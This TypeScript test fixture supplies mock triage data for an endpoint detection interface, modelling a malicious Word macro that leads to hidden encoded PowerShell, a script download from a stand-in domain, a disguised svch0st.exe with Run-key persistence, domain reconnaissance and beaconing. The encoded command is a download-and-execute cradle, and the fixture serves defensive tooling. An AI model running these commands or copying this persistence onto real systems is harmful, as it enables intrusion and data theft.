/** The black alert's triage: a mailed macro document leads to PowerShell, a download, persistence, command and control. */
import type { EventRef, Language, Section, SectionItem, SectionKind, TreeNode, Triage } from "../src/api/types";
import { ago } from "./clock.ts";

const DETECTED = 1029;
const SHA = "9f2b6c1d0e8a47b5c3d2e1f00a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b";

const event = (uid: string, seconds: number): EventRef => ({ uid: uid.padEnd(32, "0"), channel: "Microsoft-Windows-Sysmon/Operational", record_id: 48_000 + seconds, time: ago(seconds) });

interface Brief {
  id: string;
  parent: string | null;
  image: string;
  command?: string;
  at: number;
  pid: number;
  ghost?: boolean;
  subject?: boolean;
  matches?: string[];
  findings?: string[];
}

function node(of: Brief): TreeNode {
  return {
    id: of.id,
    parent: of.parent,
    ghost: of.ghost ?? false,
    origin: of.ghost ? "from_child" : "recorded",
    subject: of.subject ?? false,
    pid: of.pid,
    image: of.image,
    command_line: of.command ?? null,
    user: "MINATO\\tanaka",
    sha256: of.subject ? SHA : null,
    started_at: of.ghost ? null : ago(of.at),
    ended_at: null,
    after_detection: of.at < DETECTED,
    matches: of.matches ?? [],
    findings: of.findings ?? [],
    event: of.ghost ? null : event(of.id, of.at),
  };
}

export function triage(language: Language): Triage {
  const say = (ja: string, en: string) => (language === "ja" ? ja : en);
  const encoded = "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcA";
  return {
    host: "PC-014",
    subject: { node: "svch0st", image: "C:\\Users\\tanaka\\AppData\\Roaming\\svch0st.exe", sha256: SHA, sha1: null, md5: null, process_guid: null, pid: 7720, command_line: null, user: "MINATO\\tanaka", channel: null },
    judgement: { verdict: "black", score: 142, families: ["origin", "parent", "living_off_the_land", "persistence", "network"], rule: say("60 点以上、5 系統の根拠がそろったため、明らかな脅威と判定しました。", "A clear threat: 60 points or more, from five families of evidence.") },
    findings: [
      { id: "E19", family: "parent", points: 35, reason: say("Word がスクリプト(powershell.exe)を起動しました", "Word started a script host (powershell.exe)"), events: [event("powershell", 1035)] },
      { id: "E23", family: "living_off_the_land", points: 35, reason: say("符号化され、画面を隠したコマンドを実行しました", "An encoded command ran with its window hidden"), events: [event("powershell", 1035)] },
      { id: "E29", family: "network", points: 30, reason: say("IP アドレスを直接指定し、通常使われないポートへ通信しました", "It talked to a bare IP address on an unusual port"), events: [event("conn1", 1012)] },
      { id: "E24", family: "persistence", points: 25, reason: say("自動起動(Run キー)に登録しました", "It registered itself for autostart (Run key)"), events: [event("run1", 1020)] },
      { id: "E17", family: "origin", points: 25, reason: say("メールの添付ファイルから始まりました", "It began with a mail attachment"), events: [event("doc", 1050)] },
      { id: "E9", family: "path", points: 12, reason: say("利用者が書き込める場所から実行しました", "It ran from a place that users can write to"), events: [event("svch0st", 1029)] },
      { id: "E13", family: "prevalence", points: -20, reason: say("同名のファイルが 24 台で 40 日前から見つかっています", "A file of this name is on 24 endpoints since 40 days"), events: [] },
    ],
    unknown: [
      { id: "E5", reason: say("署名の失効は確認できていません(Sysmon 7 を収集していません)", "Revocation of the signature is not known (Sysmon 7 is not collected)") },
      { id: "E1", reason: say("既知の不正ファイルの一覧が設定されていません", "No list of known malicious files is set") },
    ],
    sections: sections(say, encoded),
    tree: {
      nodes: [
        node({ id: "explorer", parent: null, image: "C:\\Windows\\explorer.exe", at: 9000, pid: 4120, ghost: true }),
        node({ id: "outlook", parent: "explorer", image: "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", at: 8000, pid: 5008 }),
        node({ id: "winword", parent: "outlook", image: "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", command: '"WINWORD.EXE" /n "C:\\Users\\tanaka\\AppData\\Local\\Temp\\invoice_8841.docm"', at: 1050, pid: 6612, findings: ["E17"] }),
        node({ id: "powershell", parent: "winword", image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", command: encoded, at: 1035, pid: 7104, matches: ["Suspicious Encoded PowerShell Command Line", "Office Application Spawned Script Host"], findings: ["E19", "E23"] }),
        node({ id: "splwow", parent: "winword", image: "C:\\Windows\\splwow64.exe", at: 1044, pid: 6900 }),
        node({ id: "conhost", parent: "powershell", image: "C:\\Windows\\System32\\conhost.exe", at: 1034, pid: 7112 }),
        node({ id: "svch0st", parent: "powershell", image: "C:\\Users\\tanaka\\AppData\\Roaming\\svch0st.exe", command: "C:\\Users\\tanaka\\AppData\\Roaming\\svch0st.exe -k netsvcs", at: 1029, pid: 7720, subject: true, matches: ["Executable Named Like a System Process", "Run Key Set From AppData"], findings: ["E9", "E24", "E29"] }),
        node({ id: "cmd", parent: "svch0st", image: "C:\\Windows\\System32\\cmd.exe", command: "cmd.exe /c whoami /all & net user /domain", at: 990, pid: 8024, matches: ["Whoami Execution"] }),
        node({ id: "net", parent: "cmd", image: "C:\\Windows\\System32\\net.exe", command: "net user /domain", at: 985, pid: 8060 }),
      ],
      omitted: 3,
      links: [],
    },
    rules: [
      { rule_id: "r1", title: "Suspicious Encoded PowerShell Command Line", level: "high", author: "Hikeshi", tags: ["attack.execution", "attack.t1059.001"], count: 1, events: [] },
      { rule_id: "r2", title: "Office Application Spawned Script Host", level: "high", author: "Hikeshi", tags: ["attack.t1204.002"], count: 1, events: [] },
      { rule_id: "r3", title: "Run Key Set From AppData", level: "medium", author: "Hikeshi", tags: ["attack.persistence"], count: 1, events: [] },
      { rule_id: "r4", title: "Whoami Execution", level: "low", author: "Hikeshi", tags: ["attack.discovery"], count: 2, events: [] },
    ],
    indicators: [
      { kind: "sha256", value: SHA },
      { kind: "ip", value: "203.0.113.77" },
      { kind: "domain", value: "cdn-update.example.net" },
      { kind: "url", value: "https://cdn-update.example.net/a/update.ps1" },
      { kind: "registry", value: "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\WinUpdate" },
    ],
    window: { from: ago(7 * 86_400 + DETECTED), detected_at: ago(DETECTED), to: ago(900) },
    events_seen: 18_422,
    rules_version: "rules 3020 / playbook 1 / 0.1.0",
  };
}

type Say = (ja: string, en: string) => string;

function item(at: number, of: string | null, what: string, details: [string, string][], findings: string[] = [], uid = `${of}${at}`, count = 1): SectionItem {
  return { time: ago(at), after_detection: at < DETECTED, node: of, what, details, count, findings, events: [event(uid, at)] };
}

function sections(say: Say, encoded: string): Section[] {
  const found = (kind: SectionKind, searched: string[], items: SectionItem[], total = items.length, missing_audit: string[] = []): Section => ({ kind, state: items.length > 0 ? "found" : "nothing", searched, missing_audit, total, items });
  const roaming = "C:\\Users\\tanaka\\AppData\\Roaming\\";
  return [
    found("origin", ["Sysmon 11"], [
      item(1050, "winword", say("メールの添付ファイルを保存しました", "An attachment was saved"), [["path", "C:\\Users\\tanaka\\AppData\\Local\\Temp\\invoice_8841.docm"], ["host_url", "about:internet"]], ["E17"], "doc"),
      item(1031, "powershell", say("調査対象のファイルを作成しました", "The subject's file was created"), [["path", `${roaming}svch0st.exe`], ["sha256", SHA]], [], "create"),
    ], 2, ["Sysmon 15"]),
    found("process_chain", ["Sysmon 1", "Security 4688"], [
      item(1050, "winword", say("Word が文書を開きました", "Word opened the document"), [["image", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"], ["user", "MINATO\\tanaka"]], ["E17"], "winword"),
      item(1035, "powershell", say("Word が PowerShell を起動しました", "Word started PowerShell"), [["command_line", encoded]], ["E19", "E23"], "powershell"),
      item(1029, "svch0st", say("PowerShell が調査対象を起動しました", "PowerShell started the subject"), [["command_line", `${roaming}svch0st.exe -k netsvcs`]], ["E9"], "svch0st"),
    ]),
    found("processes_started", ["Sysmon 1"], [
      item(990, "cmd", say("コマンドプロンプトを起動しました", "Started a command prompt"), [["command_line", "cmd.exe /c whoami /all & net user /domain"]], [], "cmd"),
      item(985, "net", say("ドメインの利用者を調べました", "Listed the users of the domain"), [["command_line", "net user /domain"]], [], "net", 2),
    ]),
    found("files_written", ["Sysmon 11"], [
      item(1024, "svch0st", say("設定ファイルを書き込みました", "Wrote a configuration file"), [["path", `${roaming}winupd.dat`]]),
      item(1019, "svch0st", say("ショートカットを作成しました", "Made a shortcut"), [["path", "C:\\Users\\tanaka\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\update.lnk"]], ["E24"]),
    ], 14),
    found("registry_edited", ["Sysmon 13"], [
      item(1020, "svch0st", say("自動起動に登録しました", "Registered for autostart"), [["registry", "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\WinUpdate"], ["data", `${roaming}svch0st.exe -k netsvcs`]], ["E24"], "run1"),
    ]),
    { kind: "files_read", state: "not_collected", searched: [], missing_audit: ["Sysmon 7", "Security 4663 (SACL)"], total: 0, items: [] },
    found("network", ["Sysmon 3", "Sysmon 22"], [
      item(1033, "powershell", say("名前を問い合わせました", "Asked for a name"), [["query", "cdn-update.example.net"], ["answers", "203.0.113.77"]]),
      item(1032, "powershell", say("スクリプトを取得しました", "Fetched a script"), [["url", "https://cdn-update.example.net/a/update.ps1"]]),
      item(1012, "svch0st", say("外部へ接続しました", "Connected outside"), [["destination", "203.0.113.77:8443"], ["protocol", "tcp"]], ["E29"], "conn1", 42),
    ]),
    found("file_attributes", ["Sysmon 1", "Sysmon 11"], [
      item(1029, "svch0st", say("ファイルの属性", "Attributes of the file"), [["path", `${roaming}svch0st.exe`], ["sha256", SHA], ["size", "412,672"], ["signature", say("署名なし", "not signed")], ["company", "Microsoft Corporation"]], ["E9"], "svch0st"),
    ]),
  ];
}
